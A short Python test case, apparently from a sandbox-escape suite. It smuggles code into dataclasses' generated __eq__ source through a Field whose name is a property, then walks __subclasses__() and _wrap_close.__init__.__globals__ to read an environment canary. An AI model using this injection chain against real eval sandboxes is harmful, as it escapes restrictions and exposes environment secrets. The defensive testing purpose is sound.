"""No app makes a library compile code: not by a field whose name is a property."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("dataclasses",)


import dataclasses

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return value


class Field(dataclasses.Field):
    @property
    def name(self):
        return "x, " + CODE

    @name.setter
    def name(self, value):
        pass


class Plain:
    x = 1


def attack():
    unset = dataclasses.MISSING

    class Evil:
        x: int = Field(unset, unset, False, False, None, True, {}, False)

    dataclasses.dataclass(init=False, repr=False, match_args=False)(Evil)
    Evil.__eq__(Plain(), Plain())
    return "ESCAPED: " + found[0]
